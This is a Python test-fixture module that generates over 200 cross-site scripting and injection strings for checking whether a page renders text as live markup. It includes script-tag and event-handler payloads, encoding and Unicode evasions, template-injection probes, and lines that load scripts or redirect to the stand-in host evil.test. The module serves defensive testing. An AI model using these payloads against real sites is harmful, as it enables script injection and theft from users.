"""Texts that would act on a page that shows them as anything but text (T39).

Each one tries to set `window.marker`, to open a dialog or to ask another host; a browser shows whether
one did.
"""

from __future__ import annotations

_OUT = (  # of where a page may have put the text
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "-->",
    "]]>",
    "</option></select>",
    "</td></tr></table>",
    "</text></svg>",
)
_ACTS = (
    "<script>marker=1</script>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "<img src=x onerror=marker=1>",
    "<svg/onload=marker=1>",
    '<iframe srcdoc="<script>parent.marker=1</script>"></iframe>',
    "<iframe src=javascript:parent.marker=1></iframe>",
    "<body onload=marker=1>",
    "<details open ontoggle=marker=1>x</details>",
    "<input autofocus onfocus=marker=1>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content=0;url=//evil.test/>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>*{background:url(//evil.test/y)}</style>",
    "<object data=//evil.test/o></object><embed src=//evil.test/e>",
    "<b hx-get=/sign-out hx-trigger=load hx-on::load=marker=1>x</b>",
    "<p style=background:url(//evil.test/s) onclick=marker=1>x</p>",
    "<math><mtext><img src=x onerror=marker=1></mtext></math>",
    "<template shadowrootmode=open><script>marker=1</script></template>",
)
_ODD = (
    "javascript:marker=1//",
    '" onmouseover="marker=1" x="',
    "' autofocus onfocus='marker=1",
    "` onload=marker=1",
    "{{ 7*7 }}{% raw %}${7*7}",
    "+ADw-script+AD4-marker=1+ADw-/script+AD4-",
    "\u2028<script>marker=1</script>",
    "\u202e<img src=x onerror=marker=1>",
    "＜script＞marker=1＜/script＞",
    "&lt;script&gt;marker=1&lt;/script&gt;",
    "%3Cscript%3Emarker=1%3C/script%3E",
    "<scr<script>ipt>marker=1</scr</script>ipt>",
    "<!--[if gte IE 4]><script>marker=1</script><![endif]-->",
    '<a href="data:text/html,<script>marker=1</script>">x</a>',
    "\ufeff<svg><script>marker=1</script>",
    "<" * 60,
)
HOSTILE = tuple(dict.fromkeys([out + act for out in _OUT for act in _ACTS] + list(_ODD)))
"""Over 200 texts without line breaks."""
